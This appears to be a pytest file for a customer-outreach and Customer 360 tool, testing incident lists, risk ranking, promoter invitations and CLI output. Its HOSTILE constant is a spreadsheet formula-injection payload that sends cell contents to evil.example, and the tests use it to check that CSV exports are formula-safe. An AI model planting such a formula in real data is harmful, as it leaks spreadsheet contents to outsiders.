"""Proactive outreach, promoter invitations and Customer 360 (issue 5).

Guards: the planted incident's customers are recovered from its attributes and from the
theme alone (recall >= 0.95, precision >= 0.9 against truth.json) with complaints marked
as the truth has them; the ranking is value x (1 + risk points), explained on every row;
CSV exports are formula-safe; promoters are not invited twice within the window; referral
counts match a hand count; the Customer 360 timeline is newest first and its next-step
rules fire on a constructed customer; the CLI speaks JSON.
"""

from __future__ import annotations

import datetime as dt
import json
from collections import Counter

import pytest
from typer.testing import CliRunner

from cxloop.act.customer360 import customer_360
from cxloop.act.outreach import condition_outreach, incident_outreach, theme_outreach
from cxloop.act.promoters import promoter_invitations, record_invitations, referral_counts
from cxloop.cli import app
from cxloop.errors import RecordInvalid, UnknownCustomer
from cxloop.ingest import ingest_rows

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'


def _incident(ws, truth):
    i = truth["incident"]
    return incident_outreach(
        ws, start=dt.date.fromisoformat(i["start"]), end=dt.date.fromisoformat(i["end"]),
        products=[i["identify"]["product"]],
        joined_before=dt.date.fromisoformat(i["identify"]["customer_since_before"]),
        complaint_reasons=[i["reason"]], complaint_themes=[i["theme"]], comment_lag_days=45)  # fmt: skip


def _recall_precision(got: set[str], want: set[str]) -> tuple[float, float]:
    hit = len(got & want)
    return hit / len(want), hit / max(len(got), 1)


@pytest.fixture(scope="module")
def incident_list(small_demo):
    with small_demo.open() as ws:
        return _incident(ws, small_demo.truth)


def test_incident_definition_recovers_the_planted_customers(incident_list, small_demo):
    want = set(small_demo.truth["incident"]["affected_customers"])
    recall, precision = _recall_precision({c.customer_id for c in incident_list.customers}, want)
    assert recall >= 0.95 and precision >= 0.9, (recall, precision)


def test_complained_customers_are_marked_as_the_truth_has_them(incident_list, small_demo):
    want = set(small_demo.truth["incident"]["complained_customers"])
    marked = {c.customer_id for c in incident_list.customers if c.complained}
    recall, precision = _recall_precision(marked, want)
    assert recall >= 0.9 and precision >= 0.9, (recall, precision)
    for c in incident_list.customers:
        assert (c.complaint is not None) == c.complained


def test_theme_alone_derives_the_incident_conditions(small_demo):
    i = small_demo.truth["incident"]
    with small_demo.open() as ws:
        result = theme_outreach(ws, i["theme"], since=dt.date.fromisoformat(i["start"]),
                                until=dt.date.fromisoformat(i["end"]))  # fmt: skip
    conditions = {c.condition: c for c in result.conditions}
    assert set(conditions) == {"product = credit card", "joined before 2021"}
    for c in result.conditions:  # each checkable: lift > 1 with its interval and support
        assert c.low > 1 and c.hits >= 5 and c.n >= c.hits and c.q_value < 0.05
    recall, precision = _recall_precision({c.customer_id for c in result.customers},
                                          set(i["affected_customers"]))  # fmt: skip
    assert recall >= 0.95 and precision >= 0.9, (recall, precision)


def test_ranking_is_value_times_risk_and_explained(incident_list):
    people = incident_list.customers
    ranked = [c for c in people if not c.complained]
    assert [c.rank for c in ranked] == list(range(1, len(ranked) + 1))
    assert all(c.rank is None for c in people[len(ranked) :])  # complained come last
    assert all(c.complained for c in people[len(ranked) :])
    for c in people:
        assert c.priority == pytest.approx((c.annual_value or 0) * (1 + c.risk_points), abs=0.01)
        assert f"risk {1 + c.risk_points}" in c.why_ranked
    assert [c.priority for c in ranked] == sorted((c.priority for c in ranked), reverse=True)
    assert any(c.risk_points > 0 for c in ranked) and any(c.risk_points == 0 for c in ranked)


# -- constructed customers on a copy of the demo --------------------------------------------
def _contact(i, cid, at, reason, *, resolved="false", wait="20", transfers="0", channel="phone"):
    return {"interaction_id": f"TEST-I{i}", "started_at": at, "channel": channel,
            "reason": reason, "customer_id": cid, "offered": "true", "answered": "true",
            "abandoned": "false", "wait_seconds": wait, "talk_seconds": "300",
            "hold_seconds": "0", "wrap_seconds": "30", "transfers": transfers,
            "resolved": resolved}  # fmt: skip


@pytest.fixture
def constructed(copy_of_small_demo):
    """Three new customers: C-RISK (two unresolved billing contacts and a detractor score),
    C-PROMO (a promoter with a hostile comment), C-WAIT (a long wait with two transfers)."""
    ws = copy_of_small_demo.open()
    ingest_rows(ws, "customers", [
        {"customer_id": "C-RISK", "segment": "affluent", "product": "credit card",
         "region": "Wales", "annual_value": "1000", "customer_since": "2015-03-01",
         "acquired_via": "branch"},
        {"customer_id": "C-PROMO", "segment": HOSTILE, "product": "savings", "region": "Wales",
         "annual_value": "500", "customer_since": "2019-05-01", "acquired_via": "referral"},
        {"customer_id": "C-WAIT", "segment": "mass", "product": "loan", "region": "Wales",
         "annual_value": "200", "customer_since": "2020-01-01", "acquired_via": "web"},
    ], source="test-customers")  # fmt: skip
    ingest_rows(ws, "interactions", [
        _contact(1, "C-RISK", "2026-10-20 10:00:00", "billing error"),
        _contact(2, "C-RISK", "2026-10-24 11:00:00", "billing error"),
        _contact(3, "C-WAIT", "2026-10-30 09:00:00", "payment query", wait="700", transfers="2"),
        _contact(4, "C-WAIT", "2026-10-30 15:00:00", "complaint", wait="10"),
        _contact(5, "C-PROMO", "2026-10-29 09:00:00", "statement", wait="700", transfers="1",
                 resolved="true"),
        _contact(6, "C-PROMO", "2026-10-29 12:00:00", "statement", wait="9000", transfers="3",
                 channel="email", resolved="true"),
    ], source="test-interactions")  # fmt: skip
    ingest_rows(ws, "responses", [
        {"response_id": "TEST-R1", "responded_at": "2026-10-25 09:00:00", "customer_id": "C-RISK",
         "interaction_id": "TEST-I2", "instrument": "post-contact", "nps": "3"},
        {"response_id": "TEST-R2", "responded_at": "2026-10-30 09:00:00",
         "customer_id": "C-PROMO", "interaction_id": "TEST-I5", "instrument": "post-contact",
         "nps": "10", "comment": HOSTILE},
    ], source="test-responses")  # fmt: skip
    yield ws
    ws.close()


def test_risk_points_by_hand(constructed):
    result = incident_outreach(constructed, start=dt.date(2026, 10, 1), end=dt.date(2026, 10, 31),
                               products=["credit card"], regions=["Wales"])  # fmt: skip
    row = next(c for c in result.customers if c.customer_id == "C-RISK")
    # detractor (NPS 3) +3, two unresolved contacts +2 -> risk 6, priority 1000 x 6
    assert row.risk_points == 5 and row.priority == 6000.0
    assert "detractor (NPS 3 on 2026-10-25): +3" in row.why_ranked
    assert "2 unresolved contacts: +2" in row.why_ranked


def test_condition_outreach_on_constructed_contacts(constructed):
    result = condition_outreach(constructed, wait_over=600, transfers=2, days=7)
    ids = {c.customer_id for c in result.customers}
    assert "C-WAIT" in ids  # phone, 700 s, 2 transfers
    assert "C-PROMO" not in ids  # one transfer on phone; the email wait does not queue
    wait = next(c for c in result.customers if c.customer_id == "C-WAIT")
    assert wait.complained and "complaint contact on 2026-10-30" in wait.complaint
    assert "longest wait 12 min, up to 2 transfers" in wait.affected_because
    assert result.as_of == dt.date(2026, 10, 31) and result.start == dt.date(2026, 10, 25)


def test_outreach_csv_is_formula_safe(constructed):
    result = incident_outreach(constructed, start=dt.date(2026, 10, 1), end=dt.date(2026, 10, 31),
                               regions=["Wales"], products=["savings"])  # fmt: skip
    text = result.to_csv()
    assert "C-PROMO" in text and "'" + HOSTILE.replace('"', '""') in text
    assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text


def test_promoters_with_their_comment_not_reinvited_within_the_window(constructed):
    ws = constructed
    first = promoter_invitations(ws, "testimonial")
    promo = next(i for i in first.invites if i.customer_id == "C-PROMO")
    assert promo.nps == 10 and promo.comment == HOSTILE  # untagged: the answer's comment
    assert "'" + HOSTILE.replace('"', '""') in first.to_csv()
    ranks = [i.rank for i in first.invites]
    assert ranks == list(range(1, len(ranks) + 1))
    positive = [i.comment_is_positive for i in first.invites]
    assert positive == sorted(positive, reverse=True)  # testimonials: positive words first
    made = record_invitations(ws, ["C-PROMO", first.invites[0].customer_id], "testimonial",
                              "amira")  # fmt: skip
    assert len(made) == 2
    trail = ws.app.audit_trail("invitation", made[0].id)
    assert trail[0].actor == "amira" and trail[0].after["customer_id"] == "C-PROMO"
    again = promoter_invitations(ws, "referral")
    left = {i.customer_id for i in again.invites}
    assert "C-PROMO" not in left and first.invites[0].customer_id not in left
    assert again.recently_invited == 2
    later = promoter_invitations(ws, "referral", now=made[0].invited_at + dt.timedelta(days=181))
    back = next(i for i in later.invites if i.customer_id == "C-PROMO")
    assert back.last_invited_on == made[0].invited_at.date()
    with pytest.raises(RecordInvalid):
        record_invitations(ws, ["C-PROMO"], "lunch", "amira")


def test_referral_counts_by_hand(small_demo):
    with small_demo.open() as ws:
        rows = ws.analytics.con.to_pyarrow(ws.analytics.table("customers").select(
            "customer_since", "acquired_via")).to_pylist()  # fmt: skip
        counted = {r.period.year: r for r in referral_counts(ws, "year")}
    joined, earned, referral = Counter(), Counter(), Counter()
    for r in rows:
        if r["customer_since"] is None:
            continue
        y = r["customer_since"].year
        joined[y] += 1
        earned[y] += r["acquired_via"] in ("referral", "recommendation")
        referral[y] += r["acquired_via"] == "referral"
    assert set(counted) == set(joined)
    for y, r in counted.items():
        assert (r.joined, r.earned, r.referral) == (joined[y], earned[y], referral[y])
        assert r.earned_share == pytest.approx(earned[y] / joined[y])


def test_customer_360_timeline_and_next_step(constructed):
    ws = constructed
    view = customer_360(ws, "C-RISK")
    times = [e.at for e in view.timeline]
    assert times == sorted(times, reverse=True)  # newest first
    assert [e.kind for e in view.timeline] == ["survey answer", "contact", "contact"]
    assert view.next_step.rule == "call before the next statement"
    assert view.next_step.reason == ("Two unresolved 'billing error' contacts and a detractor "
                                     "score (3 on 2026-10-25).")  # fmt: skip
    assert view.account["annual_value"] == 1000 and view.account["tenure_years"] == 11.7

    from cxloop.store.app.models import Case, CaseNote, CaseStatus

    at = dt.datetime(2026, 10, 26, 9, tzinfo=dt.UTC)
    with ws.app.session() as s:
        case = Case(response_id="TEST-R1", customer_id="C-RISK", rule="detractor",
                    reason="NPS 3", priority="high", status=CaseStatus.open, owner="amira",
                    responded_at=at, opened_at=at, due_at=at + dt.timedelta(days=2))  # fmt: skip
        s.add(case)
        s.flush()
        s.add(CaseNote(case_id=case.id, author="amira", text=HOSTILE, created_at=at
                       + dt.timedelta(hours=3)))  # fmt: skip
    view = customer_360(ws, "C-RISK")
    assert [e.kind for e in view.timeline][:2] == ["case note", "case opened"]
    assert view.next_step.rule == "open case" and "amira" in view.next_step.action
    assert customer_360(ws, "C-PROMO").next_step.rule == "promoter"
    with pytest.raises(UnknownCustomer):
        customer_360(ws, "NOBODY")


def test_cli_json_csv_and_errors(constructed, tmp_path):
    runner = CliRunner()
    w = ["--workspace", str(constructed.path)]
    out = tmp_path / "list.csv"
    res = runner.invoke(app, ["outreach", "incident", "--product", "savings", "--region", "Wales",
                              "--start", "2026-10-01", "--end", "2026-10-31", "--out", str(out),
                              "--format", "json", *w])  # fmt: skip
    assert res.exit_code == 0, res.output
    doc = json.loads(res.stdout)
    assert doc["kind"] == "incident" and doc["affected"] == len(doc["customers"]) > 0
    assert "'" + HOSTILE.replace('"', '""') in out.read_text()
    res = runner.invoke(app, ["customer", "C-RISK", "--format", "json", *w])
    assert json.loads(res.stdout)["next_step"]["rule"] == "call before the next statement"
    res = runner.invoke(app, ["promoters", "--kind", "testimonial", "--record", "--actor", "ben",
                              "--limit", "3", "--format", "json", *w])  # fmt: skip
    first = [i["customer_id"] for i in json.loads(res.stdout)["invites"]]
    res = runner.invoke(app, ["promoters", "--kind", "testimonial", "--format", "json", *w])
    assert not set(first) & {i["customer_id"] for i in json.loads(res.stdout)["invites"]}
    res = runner.invoke(app, ["outreach", "condition", "--format", "json", *w])
    assert "C-WAIT" in {c["customer_id"] for c in json.loads(res.stdout)["customers"]}
    res = runner.invoke(app, ["customer", "NOBODY", *w])
    assert res.exit_code == 1 and "no customer 'NOBODY'" in res.output


@pytest.mark.postgres
def test_same_lists_on_postgresql(small_demo, small_demo_on_postgres, incident_list):
    """Ibis only: the outreach, promoter and Customer 360 answers agree on PostgreSQL."""
    i = small_demo.truth["incident"]
    with small_demo.open() as duck, small_demo_on_postgres.open() as pg:
        assert pg.analytics.dialect == "postgres"
        pg_list = _incident(pg, small_demo.truth)
        assert [c.to_dict() for c in pg_list.customers] == [
            c.to_dict() for c in incident_list.customers
        ]
        window = {"since": dt.date.fromisoformat(i["start"]),
                  "until": dt.date.fromisoformat(i["end"])}  # fmt: skip
        a, b = theme_outreach(duck, i["theme"], **window), theme_outreach(pg, i["theme"], **window)
        assert [c.to_dict() for c in a.conditions] == [c.to_dict() for c in b.conditions]
        assert [c.customer_id for c in a.customers] == [c.customer_id for c in b.customers]
        assert (
            condition_outreach(duck, days=60).to_dict() == condition_outreach(pg, days=60).to_dict()
        )
        p, q = promoter_invitations(duck), promoter_invitations(pg)
        assert [x.to_dict() for x in p.invites] == [x.to_dict() for x in q.invites]
        assert referral_counts(duck) == referral_counts(pg)
        cid = incident_list.to_call[0].customer_id
        assert customer_360(duck, cid).to_dict() == customer_360(pg, cid).to_dict()
